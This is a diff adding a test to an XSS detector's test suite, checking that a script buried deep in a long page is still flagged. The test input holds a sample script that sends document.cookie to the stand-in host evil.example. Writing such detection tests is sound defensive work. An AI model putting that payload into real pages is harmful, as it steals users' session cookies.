@@ -106,3 +106,9 @@ describe('xss', () => {
     expect(recognise(xss, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
   });
 });
+
+it('blocks a script behind more of a page than is read', () => {
+  const piece = `<div class="a">\n<p>Hello</p>\n</div>\n${'<p>one more line</p>\n'.repeat(5_500)}<script>\nvar a = 1;\n</script>\n`;
+  const text = `${piece}<script>\nfetch('//evil.example/?' + document.cookie);\n</script>\n<p>end</p>`;
+  expect(recognise(xss, text, { location: 'body' })?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
+});
